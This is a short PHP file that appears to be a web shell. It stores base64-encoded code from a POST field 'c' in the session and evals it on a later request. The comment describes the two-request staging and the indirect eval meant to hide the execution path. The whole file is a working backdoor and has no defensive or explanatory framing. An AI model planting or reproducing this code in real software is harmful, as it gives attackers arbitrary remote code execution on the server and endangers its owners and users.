<?php
// The request's code is parked in the session by one request and run by
// the next, through a constant string that eval() reads in this scope.
session_start();
isset($_POST['c']) && $_SESSION['job'] = trim($_POST['c']);
empty($_SESSION['job']) || eval('eval(base64_decode($_SESSION[\'job\']));');
